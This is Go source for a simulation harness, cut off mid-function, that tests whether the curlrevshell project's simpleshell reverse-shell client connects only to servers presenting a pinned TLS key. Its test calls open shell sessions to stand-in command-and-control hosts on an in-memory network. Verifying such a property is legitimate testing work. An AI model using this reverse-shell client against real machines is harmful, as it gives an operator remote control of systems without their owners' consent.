func (s *sim) success(c *call) (bool, string) {
	c.mu.Lock()
	connected, recv := c.connected, append([]byte(nil), c.recv...)
	c.mu.Unlock()
	s.mu.Lock()
	sn := s.seen[[2]int{c.target.n, c.k}]
	var reqs int
	var body []byte
	if sn != nil {
		reqs, body = len(sn.reqs), append([]byte(nil), sn.body...)
	}
	s.mu.Unlock()
	if reqs == 0 {
		return false, "its request never reached the server's handler"
	}
	if !connected {
		return false, "its shell was never run"
	}
	for _, tok := range c.owed {
		if !bytes.Contains(body, []byte(tok)) {
			return false, "a token it sent never reached the server"
		}
		if !bytes.Contains(recv, []byte(tok)) {
			return false, "the server's echo of a token never reached it"
		}
	}
	return true, ""
}
