// Package pinsim checks property C13: lib/simpleshell talks only to the
// pinned key, and the pin is per connection.  One run is one synctest bubble
// holding an in-memory network, a handful of HTTPS servers with generated
// certificate chains and a history of overlapping calls to the real
// simpleshell.Go, which reaches the servers through the process's real
// http.DefaultTransport / http.DefaultClient (the seam is
// DefaultTransport.DialContext).
package pinsim

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"runtime/debug"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"
	"unsafe"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
	"github.com/magisterquis/curlrevshell/verifharness/simnet"
)

// Prop is the property this engine judges.
const Prop = "C13"

// Invariant slugs.
const (
	InvTraffic   = "traffic-to-unpinned-server"
	InvRefused   = "allowed-server-refused"
	InvMalformed = "malformed-fingerprint-refused"
	InvDefaults  = "defaults-untouched"
)

// Signatures.
const (
	SigPinnedNoKey    = "pinned call reached a server without the pinned key"
	SigUnpinnedBad    = "un-pinned call reached a server whose certificate does not validate"
	SigOtherPin       = "call used another call's pin"
	SigMalformedReach = "call with a malformed fingerprint reached a server"
	SigRefusedUnpin   = "un-pinned call to a server whose chain validates was refused"
	SigRefusedPinned  = "pinned call to a server presenting the pinned key was refused"
	SigMalformedDial  = "connection dialled for a malformed fingerprint"
	SigMalformedNoErr = "no error returned for a malformed fingerprint"
	SigDefaultsPrefix = "process default HTTP client settings changed: "
)

// Engine is the C13 engine.
type Engine struct{}

// Name implements simkit.Engine.
func (Engine) Name() string { return "pinsim" }

type dialEvent struct {
	call, srv int
	ok        bool
	plain     bool // to the plain-HTTP hop
}

// defaults is the observable part of the process's default HTTP client
// settings.
type defaults struct {
	clientTransport http.RoundTripper
	clientTimeout   time.Duration
	clientJar       http.CookieJar
	redirectSet     bool
	tlsCfg          *tls.Config
	insecure        bool
	verifyConn      bool
	rootCAs         *x509.CertPool
	forceH2         bool
	dial            uintptr
}

type sim struct {
	cfg    Config
	script []Action
	job    *simkit.Job

	net     *simnet.Net
	start   time.Time
	roots   *x509.CertPool
	servers []*server
	https   []*http.Server
	calls   map[int]*call
	order   []*call

	pre      *call // the prehistory's call
	dialing  *call // the call set going last (guarded by mu): a dial to a shared host name is its dial
	preConns []*simnet.Conn

	mu     sync.Mutex // guards events, dialEv, seen, preConns and the calls' conns
	events []srvEvent
	dialEv []dialEvent
	seen   map[[2]int]*seen

	snap       defaults
	anyPinned  bool
	step       int
	done       []Action
	invalid    bool
	harnessErr string
	found      []simkit.Found
	trace      []string
	stepObs    []string
	faults     map[string]int64
	probes     map[string]int64
	states     simkit.Set64
	configs    map[string]bool
	nontrivial bool
	simNanos   int64
}

var (
	initOnce    sync.Once
	origDial    func(ctx context.Context, network, addr string) (net.Conn, error)
	origTLS     *tls.Config
	origForceH2 bool
)

// processInit runs once per worker process, outside any bubble.
func processInit() {
	initOnce.Do(func() {
		// the environment must not route the calls through a proxy
		for _, k := range []string{"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY", "http_proxy", "https_proxy", "all_proxy", "no_proxy"} {
			os.Unsetenv(k)
		}
		tr := http.DefaultTransport.(*http.Transport)
		// net/http lazily adjusts DefaultTransport (it installs a TLS
		// configuration for HTTP/2) on first use; have that happen now so that
		// every run starts from the same settings
		_ = tr.Clone()
		origDial, origTLS, origForceH2 = tr.DialContext, tr.TLSClientConfig, tr.ForceAttemptHTTP2
	})
}

// resetGlobals puts the process's default HTTP client settings back to what
// they were when the worker started (the code under test may have changed
// them; runs must not influence each other).
func resetGlobals() {
	if t, ok := http.DefaultClient.Transport.(*http.Transport); ok && t != nil {
		t.CloseIdleConnections()
	}
	http.DefaultClient.Transport = nil
	tr := http.DefaultTransport.(*http.Transport)
	tr.CloseIdleConnections()
	tr.DialContext, tr.TLSClientConfig, tr.ForceAttemptHTTP2 = origDial, origTLS, origForceH2
}

func dialID(f func(ctx context.Context, network, addr string) (net.Conn, error)) uintptr {
	return *(*uintptr)(unsafe.Pointer(&f))
}

func snapshot() defaults {
	tr := http.DefaultTransport.(*http.Transport)
	d := defaults{
		clientTransport: http.DefaultClient.Transport,
		clientTimeout:   http.DefaultClient.Timeout,
		clientJar:       http.DefaultClient.Jar,
		redirectSet:     http.DefaultClient.CheckRedirect != nil,
		tlsCfg:          tr.TLSClientConfig,
		forceH2:         tr.ForceAttemptHTTP2,
		dial:            dialID(tr.DialContext),
	}
	if c := tr.TLSClientConfig; c != nil {
		d.insecure, d.verifyConn, d.rootCAs = c.InsecureSkipVerify, c.VerifyConnection != nil, c.RootCAs
	}
	return d
}

// diff names the first setting in which now differs from was.
func (was defaults) diff(now defaults) string {
	switch {
	case was.clientTransport != now.clientTransport:
		return "http.DefaultClient.Transport"
	case was.clientTimeout != now.clientTimeout || was.clientJar != now.clientJar || was.redirectSet != now.redirectSet:
		return "http.DefaultClient"
	case was.tlsCfg != now.tlsCfg:
		return "http.DefaultTransport.TLSClientConfig"
	case was.insecure != now.insecure:
		return "http.DefaultTransport.TLSClientConfig.InsecureSkipVerify"
	case was.verifyConn != now.verifyConn:
		return "http.DefaultTransport.TLSClientConfig.VerifyConnection"
	case was.rootCAs != now.rootCAs:
		return "http.DefaultTransport.TLSClientConfig.RootCAs"
	case was.forceH2 != now.forceH2:
		return "http.DefaultTransport.ForceAttemptHTTP2"
	case was.dial != now.dial:
		return "http.DefaultTransport.DialContext"
	}
	return ""
}

// Run implements simkit.Engine.
func (Engine) Run(t *testing.T, job *simkit.Job, rng *simkit.RNG, idx int64, c *simkit.Case) *simkit.Outcome {
	processInit()
	if _, err := keyPool(); err != nil {
		return &simkit.Outcome{HarnessErr: "key pool: " + err.Error()}
	}
	s := &sim{job: job, faults: map[string]int64{}, probes: map[string]int64{}, calls: map[int]*call{},
		seen: map[[2]int]*seen{}, states: simkit.Set64{}, configs: map[string]bool{}}
	if c != nil {
		if err := json.Unmarshal(c.Config, &s.cfg); err != nil {
			return &simkit.Outcome{HarnessErr: "bad config: " + err.Error()}
		}
		for _, raw := range c.Actions {
			var a Action
			if err := json.Unmarshal(raw, &a); err != nil {
				return &simkit.Outcome{HarnessErr: "bad action: " + err.Error()}
			}
			s.script = append(s.script, a)
		}
	} else {
		s.cfg, s.script = genCase(rng)
	}
	cb, _ := json.Marshal(s.cfg)
	cs := &simkit.Case{Config: cb}
	parts := []string{string(cb)}
	for _, a := range s.script {
		b, _ := json.Marshal(a)
		cs.Actions = append(cs.Actions, b)
		parts = append(parts, string(b))
	}
	out := func() *simkit.Outcome {
		return &simkit.Outcome{Case: cs, Hash: simkit.Hash64(parts...), Invalid: s.invalid, Steps: int64(s.step), SimNanos: s.simNanos,
			Faults: s.faults, Probes: s.probes, NonTrivial: s.nontrivial, States: s.states.Sorted(),
			Violations: s.found, Trace: s.trace, HarnessErr: s.harnessErr}
	}
	// certificates are made outside the bubble
	if s.cfg.RootKey < 0 || s.cfg.RootKey >= poolSize || len(s.cfg.Servers) == 0 {
		s.invalid = true
		return out()
	}
	root, err := harnessRoot(s.cfg.RootKey)
	if err != nil {
		s.harnessErr = "harness root: " + err.Error()
		return out()
	}
	s.roots = x509.NewCertPool()
	s.roots.AddCert(root)
	for n, sp := range s.cfg.Servers {
		sv, err := buildServer(n, sp, s.cfg.RootKey, s.roots)
		if err != nil {
			if c != nil {
				s.invalid = true
			} else {
				s.harnessErr = err.Error()
			}
			return out()
		}
		s.servers = append(s.servers, sv)
	}
	resetGlobals()
	func() {
		defer func() {
			if r := recover(); r != nil && s.harnessErr == "" {
				s.harnessErr = fmt.Sprintf("panic around bubble: %v\n%s", r, debug.Stack())
			}
		}()
		synctest.Test(t, func(*testing.T) { s.main() })
	}()
	resetGlobals()
	if s.harnessErr == "" && !s.invalid {
		iters := s.cfg.Hammer
		if c != nil {
			// a replay tries harder, and may be retried: whether the goroutines
			// collide is up to the scheduler (only the verdict is not)
			iters *= 10
			if iters > 0 {
				s.probes["coin_steps"] = 1
			}
		}
		s.step++
		s.hammer(iters)
	}
	return out()
}

func (s *sim) obs(format string, a ...any) { s.stepObs = append(s.stepObs, fmt.Sprintf(format, a...)) }

func (s *sim) flushObs(act string) {
	sort.Strings(s.stepObs)
	s.trace = append(s.trace, fmt.Sprintf("step %d t=%dms %s :: %s", s.step, time.Since(s.start).Milliseconds(), act, strings.Join(s.stepObs, " ; ")))
	s.stepObs = s.stepObs[:0]
}

func (s *sim) violate(inv, sig, format string, a ...any) {
	for _, f := range s.found {
		if f.Invariant == inv {
			return
		}
	}
	msg := fmt.Sprintf(format, a...)
	s.found = append(s.found, simkit.Found{Property: Prop, Invariant: inv, Signature: sig, Message: fmt.Sprintf("step %d: %s", s.step, msg)})
	s.obs("VIOLATION %s [%s]: %s", inv, sig, msg)
}

// describe names a server's chain by pool keys, e.g. "srv3 valid [KEY#4 leaf, KEY#9 root]".
func (sv *server) describe() string {
	var p []string
	for i, k := range sv.keyIdx {
		p = append(p, fmt.Sprintf("KEY#%d %s", k, sv.roles[i]))
	}
	v := "does not validate"
	if sv.valid {
		v = "validates"
	}
	return fmt.Sprintf("srv%d %s [%s] (%s)", sv.n, sv.spec.Kind, strings.Join(p, ", "), v)
}

// keyName names the pool key hashing to h, if any.
func keyName(h [32]byte) string {
	for i, k := range pool {
		if k.hash == h {
			return fmt.Sprintf("KEY#%d", i)
		}
	}
	return "no generated key"
}

func (c *call) describe() string {
	switch c.class {
	case clsUnpinned:
		return fmt.Sprintf("call %d (no fingerprint) -> srv%d as %s", c.k, c.target.n, c.host)
	case clsMalformed:
		return fmt.Sprintf("call %d (malformed fingerprint, spelling %s) -> srv%d as %s", c.k, c.act.FP, c.target.n, c.host)
	}
	return fmt.Sprintf("call %d (%s to %s, spelling %s) -> srv%d as %s", c.k, c.class, keyName(c.hash), c.act.FP, c.target.n, c.host)
}

func (s *sim) main() {
	defer func() {
		if r := recover(); r != nil {
			s.harnessErr = fmt.Sprintf("panic in simulator: %v\n%s", r, debug.Stack())
		}
	}()
	s.start = time.Now()
	s.net = simnet.New(s.cfg.NetSeed)

	// the seam: the process's default transport reaches the simulated network
	tr := http.DefaultTransport.(*http.Transport)
	current.Store(s)
	defer current.Store(nil)
	seam := &tls.Config{RootCAs: s.roots, NextProtos: []string{"h2", "http/1.1"}}
	tr.DialContext, tr.TLSClientConfig = seamDial, seam
	s.prehistory()
	// the run proper starts from the process's settings as the harness made them
	if t, ok := http.DefaultClient.Transport.(*http.Transport); ok && t != nil {
		t.CloseIdleConnections()
	}
	http.DefaultClient.Transport = nil
	tr.DialContext, tr.TLSClientConfig, tr.ForceAttemptHTTP2 = seamDial, seam, origForceH2
	s.snap = snapshot()

	for _, sv := range s.servers {
		ln := s.net.Listen("srv"+strconv.Itoa(sv.n), &net.TCPAddr{IP: net.IPv4(192, 0, 2, byte(10+sv.n)), Port: 443})
		tl := tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{sv.cert}, NextProtos: []string{"http/1.1"}})
		hs := &http.Server{Handler: handler{s: s, sv: sv}, ErrorLog: log.New(io.Discard, "", 0)}
		s.https = append(s.https, hs)
		go func() { _ = hs.Serve(tl) }()
		s.trace = append(s.trace, "server "+sv.describe())
	}
	// the plain-HTTP hop: answers everything with a 302 to the same host and
	// URL under https (the client then repeats a POST as a GET without body)
	rl := s.net.Listen("redir", &net.TCPAddr{IP: net.IPv4(192, 0, 2, 8), Port: 80})
	rs := &http.Server{ErrorLog: log.New(io.Discard, "", 0), Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_ = http.NewResponseController(w).EnableFullDuplex()
		w.Header().Set("Connection", "close")
		w.Header().Set("Location", "https://"+r.Host+r.URL.RequestURI())
		w.WriteHeader(http.StatusFound)
	})}
	s.https = append(s.https, rs)
	go func() { _ = rs.Serve(rl) }()
	synctest.Wait()

	for _, a := range s.script {
		if len(s.found) > 0 || s.harnessErr != "" || s.invalid {
			break
		}
		s.step++
		simkit.Heartbeat.Add(1)
		s.apply(a)
		if s.invalid {
			s.trace = append(s.trace, fmt.Sprintf("step %d %s :: NOT EXECUTABLE", s.step, a))
			break
		}
		s.done = append(s.done, a)
		synctest.Wait()
		s.observe()
		s.flushObs(a.String())
	}
	s.finish()
	s.simNanos = int64(time.Since(s.start))
}

// current is the run whose network dials reach.  A transport that the code
// under test kept from an earlier run (in state the harness cannot reset)
// carries a copy of seamDial and so still reaches the live network.
var current atomic.Pointer[sim]

// seamDial is DefaultTransport.DialContext while a run is on.
func seamDial(ctx context.Context, network, addr string) (net.Conn, error) {
	s := current.Load()
	if s == nil {
		return nil, simnet.ErrRefused
	}
	return s.dial(ctx, network, addr)
}

const canaryHost = "c0.canary.test"

// dial: the host name says which call dials and which server it wants.
func (s *sim) dial(ctx context.Context, network, addr string) (net.Conn, error) {
	host, port, err := net.SplitHostPort(addr)
	if err != nil {
		host = addr
	}
	if host == canaryHost {
		conn, err := s.net.Dial("canary", 0)
		if err != nil {
			return nil, err
		}
		s.mu.Lock()
		s.preConns = append(s.preConns, conn)
		s.mu.Unlock()
		return conn, nil
	}
	k, n := -1, -1
	if p := strings.Split(host, "."); len(p) == 3 && p[2] == "test" && strings.HasPrefix(p[0], "c") && strings.HasPrefix(p[1], "srv") {
		k, _ = strconv.Atoi(p[0][1:])
		n, _ = strconv.Atoi(p[1][3:])
	} else if len(p) == 2 && p[1] == "test" && strings.HasPrefix(p[0], "srv") {
		// a server's own name, which calls share: one call is set going per
		// step and all it does is done before the next step, so the dial is
		// that call's
		n, _ = strconv.Atoi(p[0][3:])
		s.mu.Lock()
		if d := s.dialing; d != nil && d.act.Host == hostServer && d.target.n == n {
			k = d.k
		}
		s.mu.Unlock()
	}
	name := "srv" + strconv.Itoa(n)
	if port == "80" {
		// the plain-HTTP hop in front of every server
		name = "redir"
	}
	conn, derr := s.net.Dial(name, s.cfg.Frag)
	s.mu.Lock()
	s.dialEv = append(s.dialEv, dialEvent{call: k, srv: n, ok: derr == nil, plain: port == "80"})
	if c := s.calls[k]; c != nil && derr == nil {
		c.conns = append(c.conns, conn)
	}
	s.mu.Unlock()
	if derr != nil {
		return nil, derr
	}
	return conn, nil
}

// prehistory gives every run the same past: the process has already made one
// pinned call (to a server and key of its own, which no case uses) and ended
// it.  The property holds "regardless of connections made earlier", so this
// takes nothing away; it makes state the code might keep where the harness
// cannot reset it look the same in a worker's first run as in its later ones,
// which is what keeps minimised cases replayable.  The call is not judged.
func (s *sim) prehistory() {
	ck := pool[poolSize]
	cert, err := makeCert("pinsim canary", poolSize, poolSize, nil, false, []string{canaryHost}, false)
	if err != nil {
		s.harnessErr = "canary: " + err.Error()
		return
	}
	ln := s.net.Listen("canary", &net.TCPAddr{IP: net.IPv4(192, 0, 2, 9), Port: 443})
	tl := tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{cert.Raw}, PrivateKey: ck.priv}}, NextProtos: []string{"http/1.1"}})
	hs := &http.Server{ErrorLog: log.New(io.Discard, "", 0), Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rc := http.NewResponseController(w)
		_ = rc.EnableFullDuplex()
		w.WriteHeader(http.StatusOK)
		_ = rc.Flush()
		_, _ = io.Copy(io.Discard, r.Body)
	})}
	s.https = append(s.https, hs)
	go func() { _ = hs.Serve(tl) }()
	c := &call{s: s, k: 0, out: newOutPipe(), release: make(chan struct{})}
	s.pre = c
	fp := base64.StdEncoding.EncodeToString(ck.hash[:])
	go func() {
		err := simpleshell.Go(context.Background(), simpleshell.ConnConfig{C2: "https://" + canaryHost + simpleshell.IOPath + "?call=0", Fingerprint: fp}, shellImpl{c})
		c.mu.Lock()
		c.returned, c.err = true, err
		c.mu.Unlock()
	}()
	synctest.Wait()
	c.out.closeWrite()
	close(c.release)
	c.ended = true
	synctest.Wait()
	c.mu.Lock()
	ok := c.connected && c.returned && c.err == nil
	c.mu.Unlock()
	s.trace = append(s.trace, fmt.Sprintf("prehistory: one pinned call made and ended (went through: %v)", ok))
}

func (s *sim) apply(a Action) {
	switch a.Op {
	case "start":
		if a.Call <= 0 || s.calls[a.Call] != nil || a.Server < 0 || a.Server >= len(s.servers) || a.Of < 0 || a.Of >= len(s.servers) || a.Pos < 0 {
			s.invalid = true
			return
		}
		fp, err := spell(a.FP, a.V, s.servers[a.Of], a.Pos)
		if err != nil {
			s.invalid = true
			return
		}
		c := &call{s: s, k: a.Call, act: a, fp: fp, target: s.servers[a.Server], release: make(chan struct{})}
		c.class, c.hash = classify(fp)
		switch a.Host {
		case "":
			c.host = hostOf(c.k, c.target.n)
		case hostServer:
			c.host = sharedHostOf(c.target.n)
			s.probes["shared_host_calls"]++
		default:
			s.invalid = true
			return
		}
		scheme, ok := map[string]string{"": "https", "upper": "HTTPS", "mixed": "Https", "redir": "http"}[a.URL]
		if !ok {
			s.invalid = true
			return
		}
		c.url = fmt.Sprintf("%s://%s%s?call=%d", scheme, c.host, simpleshell.IOPath, c.k)
		c.redirected = a.URL == "redir"
		if a.URL != "" {
			s.probes["url_"+a.URL]++
		}
		c.out = newOutPipe()
		if a.HoldOutput {
			c.hold = make(chan struct{})
			s.probes["held_starts"]++
		}
		switch c.class {
		case clsUnpinned:
			c.allowed = c.target.validFor(c)
		case clsPinned, clsLenient:
			c.allowed = len(c.target.hasKey(c.hash)) > 0
		}
		for _, o := range s.order {
			if o.sawConnected && !o.sawReturned && !o.ended {
				c.overlapped = true
			}
		}
		c.afterPinned = s.anyPinned
		if c.class == clsPinned || c.class == clsLenient {
			s.anyPinned = true
		}
		s.mu.Lock()
		s.calls[c.k] = c
		s.mu.Unlock()
		s.order = append(s.order, c)
		// bookkeeping of what the run exercised
		cfgKey := fmt.Sprintf("%s/%x/%d", c.class, c.hash, c.target.n)
		s.configs[cfgKey] = true
		if len(s.configs) >= 2 || c.class == clsMalformed || (c.class != clsUnpinned && !c.allowed) {
			s.nontrivial = true
		}
		switch {
		case c.class == clsMalformed:
			s.faults["malformed_fp"]++
		case c.class == clsLenient:
			s.probes["lenient_fp"]++
		case c.class == clsPinned && !c.allowed:
			s.faults["wrong_pin"]++
		case c.class == clsUnpinned && !c.allowed:
			s.faults["unvalidatable_chain"]++
		}
		s.probes["fp_"+a.FP]++
		if a.FP != "empty" && a.Of != a.Server {
			s.probes["fp_of_another_server"]++
		}
		if c.class == clsUnpinned && c.afterPinned {
			s.probes["unpinned_call_after_pinned"]++
		}
		if c.overlapped {
			s.probes["overlapping_calls"]++
		}
		s.sameHostProbes(c)
		s.obs("call %d %s allowed=%v target=srv%d host=%s", c.k, c.class, c.allowed, c.target.n, c.host)
		if c.hold == nil {
			s.setDialing(c)
		}
		go func() {
			err := simpleshell.Go(context.Background(), simpleshell.ConnConfig{C2: c.url, Fingerprint: c.fp}, shellImpl{c})
			c.mu.Lock()
			c.returned, c.err = true, err
			c.mu.Unlock()
		}()
	case "feed":
		c := s.calls[a.Call]
		if c == nil || c.ended {
			s.obs("noop")
			return
		}
		c.fed++
		tok := fmt.Sprintf("<tok c%d.%d>", c.k, c.fed)
		if c.sawConnected && !c.sawReturned && !c.faulted && !c.redirected {
			c.owed = append(c.owed, tok)
		}
		c.out.write([]byte(tok))
	case "release":
		c := s.calls[a.Call]
		if c == nil || c.ended || c.hold == nil || c.outReleased {
			s.obs("noop")
			return
		}
		if c.sawParked {
			s.probes["released_parked"]++
			after := false
			for _, o := range s.order {
				if o == c {
					after = true
					continue
				}
				if after && (o.class == clsPinned || o.class == clsLenient) {
					// another pinned call was set up between this call's set-up and its dial
					s.probes["setup_interleaved"]++
					break
				}
			}
		}
		s.unpark(c)
	case "end":
		c := s.calls[a.Call]
		if c == nil || c.ended {
			s.obs("noop")
			return
		}
		s.endCall(c)
	case "reset":
		c := s.calls[a.Call]
		if c == nil || c.ended {
			s.obs("noop")
			return
		}
		s.mu.Lock()
		conns := append([]*simnet.Conn(nil), c.conns...)
		s.mu.Unlock()
		// a connection that carried nothing yet is not worth resetting: the
		// fault is "mid-stream"
		if len(conns) == 0 {
			s.obs("noop")
			return
		}
		// what was owed before the reset is judged first
		s.judge(c)
		c.faulted = true
		for _, cn := range conns {
			cn.Reset()
		}
		s.faults["conn_reset"]++
	case "sleep":
		if a.Ms < 0 || a.Ms > 3600000 {
			s.invalid = true
			return
		}
		time.Sleep(time.Duration(a.Ms) * time.Millisecond)
	default:
		s.invalid = true
	}
}

// unpark lets a call parked in Shell.Output go on.
func (s *sim) unpark(c *call) {
	if c.hold != nil && !c.outReleased {
		c.outReleased = true
		s.setDialing(c)
		close(c.hold)
	}
}

func (s *sim) setDialing(c *call) {
	s.mu.Lock()
	s.dialing = c
	s.mu.Unlock()
}

// sameHostProbes counts the sequences in which call c, about to start, comes
// after a call to the very same host name (and port) that went through.
func (s *sim) sameHostProbes(c *call) {
	if c.act.Host != hostServer {
		return
	}
	var again, afterGoodPin, afterUnpinned, afterRefused bool
	for _, o := range s.order {
		if o == c || o.host != c.host {
			continue
		}
		again = true
		switch {
		case o.sawConnected && o.allowed && o.class == clsPinned:
			afterGoodPin = true
		case o.sawConnected && o.allowed && o.class == clsUnpinned:
			afterUnpinned = true
		case o.sawReturned && !o.sawConnected:
			afterRefused = true
		}
	}
	if again {
		s.probes["shared_host_again"]++
	}
	wrong := (c.class == clsPinned || c.class == clsLenient) && !c.allowed
	switch {
	case wrong && afterGoodPin:
		s.probes["wrong_pin_after_good_pin_same_host"]++
	case wrong && afterUnpinned:
		s.probes["wrong_pin_after_unpinned_same_host"]++
	}
	if c.class == clsUnpinned && !c.allowed && afterGoodPin {
		s.probes["unpinned_bad_chain_after_good_pin_same_host"]++
	}
	if c.allowed && afterRefused {
		s.probes["allowed_after_refused_same_host"]++
	}
}

// endCall finishes a call's shell: whatever it owed is judged on the
// quiescent state reached before, then its output is closed and its shell
// released.
func (s *sim) endCall(c *call) {
	if c.hold != nil && !c.outReleased {
		// still parked before connecting: it has not had its chance yet
		s.unpark(c)
		synctest.Wait()
		s.observe()
	}
	s.judge(c)
	c.ended = true
	c.out.closeWrite()
	close(c.release)
}

// judge decides once per call whether a call its own configuration allows
// did exchange traffic.
func (s *sim) judge(c *call) {
	if c.judged {
		return
	}
	c.judged = true
	ok, why := s.success(c)
	s.summarise(c, ok)
	if c.class != clsUnpinned && c.class != clsPinned {
		return
	}
	if !c.allowed || c.faulted {
		return
	}
	if ok {
		if c.class == clsUnpinned {
			s.probes["valid_chain_unpinned_ok"]++
		} else {
			for _, p := range c.target.hasKey(c.hash) {
				switch c.target.roles[p] {
				case "intermediate":
					s.probes["pin_at_intermediate"]++
				case "root":
					s.probes["pin_at_root"]++
				default:
					s.probes["pin_at_leaf"]++
				}
			}
			if !c.target.validFor(c) {
				s.probes["pin_overrides_invalid_chain"]++
			}
		}
		return
	}
	c.mu.Lock()
	err := c.err
	c.mu.Unlock()
	sig := SigRefusedPinned
	if c.class == clsUnpinned {
		sig = SigRefusedUnpin
	}
	s.violate(InvRefused, sig, "%s is allowed by its own configuration (%s) but did not get through: %s (error from Go: %v; started after a pinned call of the run: %v, while another call was streaming: %v; every run is preceded by one finished pinned call to a server of its own)",
		c.describe(), c.target.describe(), why, err, c.afterPinned, c.overlapped)
}

// summarise adds the call's abstract summary to the coverage states.
func (s *sim) summarise(c *call, ok bool) {
	role := ""
	if c.class == clsPinned || c.class == clsLenient {
		for _, p := range c.target.hasKey(c.hash) {
			role += c.target.roles[p][:1]
		}
	}
	s.states.Add(simkit.Hash64(c.class, c.act.FP, role, c.target.spec.Kind, strconv.Itoa(len(c.target.chain)),
		fmt.Sprint(c.allowed, c.overlapped, c.afterPinned, c.faulted, ok)))
}

// observe looks at the quiescent state after a step.
func (s *sim) observe() {
	s.mu.Lock()
	events, dials := s.events, s.dialEv
	s.events, s.dialEv = nil, nil
	s.mu.Unlock()
	for _, d := range dials {
		if d.plain {
			s.obs("dial call=%d plain-HTTP hop of srv%d ok=%v", d.call, d.srv, d.ok)
		} else {
			s.obs("dial call=%d srv%d ok=%v", d.call, d.srv, d.ok)
		}
		c := s.calls[d.call]
		if c == nil {
			s.harnessErr = fmt.Sprintf("dial for unknown call %d", d.call)
			return
		}
		c.dials++
		s.probes["dials"]++
		if c.class == clsMalformed {
			s.violate(InvMalformed, SigMalformedDial, "%s: a connection was dialled although the fingerprint is malformed", c.describe())
		}
	}
	for _, e := range events {
		if e.what == "req" {
			s.obs("srv%d saw request call=%d %s", e.srv, e.call, e.text)
			if e.resumed {
				s.obs("srv%d: that request came over a resumed TLS session", e.srv)
				s.probes["requests_over_resumed_tls"]++
			}
		} else {
			s.obs("srv%d saw body call=%d %dB", e.srv, e.call, e.bytes)
		}
		c := s.calls[e.call]
		if c == nil {
			s.harnessErr = fmt.Sprintf("srv%d saw traffic of unknown call %d", e.srv, e.call)
			return
		}
		if e.what == "req" {
			s.rides(c, e.conn)
		}
		s.checkTraffic(c, s.servers[e.srv], e)
	}
	for _, c := range s.order {
		c.mu.Lock()
		connected, returned, err, parked := c.connected, c.returned, c.err, c.parked
		c.mu.Unlock()
		if parked && !c.sawParked {
			c.sawParked = true
			s.obs("call %d parked in Output", c.k)
		}
		if connected && !c.sawConnected {
			c.sawConnected = true
			s.obs("call %d streaming", c.k)
			s.probes["calls_connected"]++
		}
		if returned && !c.sawReturned {
			c.sawReturned = true
			if err != nil {
				s.obs("call %d returned error", c.k)
				s.probes["calls_refused"]++
			} else {
				s.obs("call %d returned nil", c.k)
			}
			if c.class == clsMalformed && err == nil {
				s.violate(InvMalformed, SigMalformedNoErr, "%s: Go returned nil", c.describe())
			}
			if !c.ended {
				// it gave up on its own: judge what it achieved
				s.judge(c)
			}
			s.checkDefaults(fmt.Sprintf("after call %d returned", c.k))
		}
	}
}

// rides notes over whose connection call c's request came.  Calls without a
// fingerprint share the process's default transport, which keeps connections
// alive: a later call to the same host name and port may be given the
// connection an earlier call dialled, once that call's exchange is over.  The
// servers speak HTTP/1.1 only, so a connection carries one exchange at a time
// and from then on is c's (a reset of c's connections resets it, a reset of
// the earlier call's does not).
func (s *sim) rides(c *call, serial int) {
	if serial == 0 {
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, o := range s.order {
		if o == c {
			continue
		}
		for i, cn := range o.conns {
			if cn.Serial != serial {
				continue
			}
			o.conns = append(o.conns[:i:i], o.conns[i+1:]...)
			c.conns = append(c.conns, cn)
			s.probes["connection_reused_by_later_call"]++
			s.obs("call %d's request came over the connection call %d dialled", c.k, o.k)
			return
		}
	}
}

// checkTraffic: whatever a server's handler saw of a call must be allowed by
// that call's own configuration.
func (s *sim) checkTraffic(c *call, sv *server, e srvEvent) {
	what := "a request (" + e.text + ")"
	if e.resumed {
		what = "a request (" + e.text + ", over a TLS session resumed from an earlier connection's)"
	}
	if e.what == "body" {
		what = fmt.Sprintf("%d body bytes", e.bytes)
	}
	switch c.class {
	case clsUnpinned:
		if !sv.validFor(c) {
			s.violate(InvTraffic, SigUnpinnedBad, "%s saw %s of %s, which has no fingerprint and so needs ordinary validation%s",
				sv.describe(), what, c.describe(), s.pinHint(c, sv))
		}
	case clsMalformed:
		s.violate(InvTraffic, SigMalformedReach, "%s saw %s of %s", sv.describe(), what, c.describe())
	default:
		if len(sv.hasKey(c.hash)) > 0 {
			return
		}
		sig := SigPinnedNoKey
		hint := s.pinHint(c, sv)
		if hint != "" {
			sig = SigOtherPin
		}
		s.violate(InvTraffic, sig, "%s saw %s of %s, but presents no certificate with that key%s", sv.describe(), what, c.describe(), hint)
	}
}

// pinHint looks for another call of the run whose pin the server satisfies.
func (s *sim) pinHint(c *call, sv *server) string {
	for _, o := range s.order {
		if o == c || (o.class != clsPinned && o.class != clsLenient) {
			continue
		}
		if len(sv.hasKey(o.hash)) > 0 {
			return fmt.Sprintf("; it does present %s, the pin of call %d", keyName(o.hash), o.k)
		}
	}
	return ""
}

func (s *sim) checkDefaults(when string) {
	if d := s.snap.diff(snapshot()); d != "" {
		s.violate(InvDefaults, SigDefaultsPrefix+d, "%s: %s is no longer what it was before the first call of the run", when, d)
	}
}

// finish ends every call still alive, judges, and takes the bubble down.
func (s *sim) finish() {
	s.step++
	if len(s.found) == 0 && s.harnessErr == "" && !s.invalid {
		for _, c := range s.order {
			if !c.ended {
				s.endCall(c)
			}
		}
		synctest.Wait()
		s.observe()
		time.Sleep(time.Second)
		synctest.Wait()
		s.observe()
		for _, c := range s.order {
			if !c.sawReturned {
				s.obs("call %d has not returned", c.k)
			}
		}
		s.checkDefaults("at the end of the run")
		s.flushObs("finish")
	}
	// teardown: nothing of this bubble may outlive it
	for _, c := range s.order {
		s.unpark(c)
		if !c.ended {
			c.ended = true
			close(c.release)
		}
		c.out.closeWrite()
		_ = c.out.Close()
	}
	for _, hs := range s.https {
		_ = hs.Close()
	}
	s.mu.Lock()
	var conns []*simnet.Conn
	for _, c := range s.order {
